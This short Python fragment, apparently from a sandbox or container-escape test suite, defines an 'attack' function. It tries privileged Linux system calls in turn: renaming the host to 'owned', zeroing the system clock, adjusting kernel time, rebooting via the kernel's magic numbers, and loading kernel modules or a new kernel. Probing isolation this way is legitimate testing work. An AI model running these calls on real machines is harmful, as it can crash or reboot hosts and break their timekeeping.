# goal 4: the clock, the name and the power of the machine
def attack():
    return first(
        lambda: socket.sethostname("owned"),
        lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
        lambda: call("adjtimex", struct.pack("I", 1) + bytes(204)),
        lambda: call("reboot", 0xFEE1DEAD, 672274793, 0, None),
        lambda: call("vhangup"),
        lambda: call("init_module", bytes(8), 8, b""),
        lambda: call("kexec_load", 0, 0, None, 0),
        lambda: call("swapoff", b"/swap"),
    )
